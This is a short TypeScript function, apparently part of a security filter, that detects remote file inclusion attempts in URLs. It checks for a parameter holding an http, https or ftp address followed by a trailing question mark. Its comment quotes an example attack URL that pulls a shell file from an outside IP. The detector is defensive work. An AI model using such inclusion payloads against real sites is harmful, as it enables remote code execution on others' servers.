const QUESTION_MARK = 0x3f

/**
 * `/index.php?page=http://203.0.113.9/shell.txt?`: a parameter that is somebody's file, with a question mark that turns
 * what the script would add into a query. No honest link ends so.
 */
export function includesRemoteFile(url: string): boolean {
  if (url.charCodeAt(url.length - 1) !== QUESTION_MARK) return false
  const last = Math.max(url.lastIndexOf('=http://'), url.lastIndexOf('=https://'), url.lastIndexOf('=ftp://'))
  return last > 0 && url.indexOf('&', last) < 0 && url.indexOf('?') < last
}
